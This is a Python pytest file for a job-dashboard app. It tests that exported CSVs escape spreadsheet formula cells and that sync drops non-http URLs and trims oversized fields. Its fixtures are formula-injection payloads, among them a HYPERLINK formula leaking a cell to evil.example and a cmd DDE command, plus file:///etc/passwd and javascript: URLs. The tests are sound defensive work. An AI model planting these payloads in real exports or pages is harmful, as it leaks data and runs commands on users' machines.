"""Every field of a posting is attacker-controlled: what reaches a spreadsheet or a page stays inert text."""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from core.catalog import Catalog
from core.query import JobFilter, Sort
from core.settings import ROOT, Settings
from core.sync import run_sync
from core.userdata import UserData
from tests.conftest import job, static

T0 = datetime(2026, 11, 20, 9, 0)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


def hostile_rows() -> list[dict[str, object]]:
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(job(f"h{i}", title=text, company=text, location=text, department=text, salary_text=text))
    rows.append(job("plain", title="Data Engineer", company="Acme"))
    return rows


@pytest.fixture
def synced(settings: Settings) -> Settings:
    result = run_sync(settings, now=T0, sources=[static("evil", hostile_rows())])
    assert result.status == "ok" and result.counts["new"] == len(HOSTILE) + 1
    UserData(settings.db_path).set(iter_ids(settings)[0], notes="=1+2 my own note")
    return settings


def iter_ids(settings: Settings) -> list[str]:
    return [str(r["job_id"]) for r in Catalog(settings).rows(JobFilter(), limit=None)]


def live_formula_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(HOSTILE) + 2  # header + every job
    return [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_START)]


def test_catalog_export_neutralizes_formula_cells(synced: Settings, tmp_path: Path) -> None:
    path = tmp_path / "jobs.csv"
    n = Catalog(synced).export_csv(JobFilter(), Sort("title", desc=False), path)
    assert n == len(HOSTILE) + 1
    assert live_formula_cells(path) == []
    text = path.read_text(encoding="utf-8")
    # The text is kept (an apostrophe in front), not dropped: the user still reads what the posting said.
    assert "'=HYPERLINK(" in text and "'@SUM(1,2)" in text and "'＝1+1" in text and "'=1+2 my own note" in text


def test_cli_export_neutralizes_formula_cells(synced: Settings, tmp_path: Path) -> None:
    path = tmp_path / "cli.csv"
    env = {"JOBDASH_DATA_DIR": str(synced.data_dir), "JOBDASH_CONFIG": str(tmp_path / "none.toml"), "PATH": ""}
    (tmp_path / "none.toml").write_text("", encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "core", "jobs", "export", "--csv", str(path)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert live_formula_cells(path) == []


def test_non_http_urls_and_huge_fields_are_repaired_and_counted(settings: Settings) -> None:
    rows = [
        job("long", title="T" * 100_000, department="D" * 5_000, url="file:///etc/passwd", apply_url="data:,hi"),
        job("js", url="javascript:alert(1)", apply_url="mailto:jobs@evil.example"),
        job("req", salary_text="Req #2024-5567"),
    ]
    result = run_sync(settings, now=T0, sources=[static("evil", rows)])
    assert result.status == "ok" and result.counts["new"] == 3
    (src,) = result.sources
    said = " | ".join(src.warnings)
    assert "title cut to 300 characters" in said and "department cut to 200 characters" in said, said
    assert "url dropped (not an http(s) link)" in said and "apply_url dropped" in said, said
    jobs = {str(r["native_id"]): r for r in Catalog(settings).rows(JobFilter(), limit=None)}
    assert len(jobs["long"]["title"]) == 300 and jobs["long"]["title"].endswith("…")
    assert all(r["url"] is None or str(r["url"]).startswith("https://") for r in jobs.values())
    assert all(r["apply_url"] is None for r in jobs.values())
    assert jobs["req"]["salary_min"] is None and jobs["req"]["salary_max"] is None  # a requisition number is not pay
